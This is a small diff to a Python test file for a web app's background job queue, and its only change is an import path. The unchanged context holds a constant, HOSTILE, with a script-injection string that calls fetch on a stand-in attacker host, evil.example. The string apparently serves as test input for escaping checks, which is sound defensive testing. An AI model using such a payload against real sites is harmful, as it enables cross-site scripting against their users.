@@ -10,8 +10,8 @@ from rq.results import Result
 from rq.serializers import JSONSerializer
 
 from tests.support.people import post_form
+from webapp.background.job_specs import JobRequest, Queue, push, rq_queue
 from webapp.extensions import make_redis
-from webapp.jobspecs import JobRequest, Queue, push, rq_queue
 
 HOSTILE = "x');fetch('//evil.example');('"
 
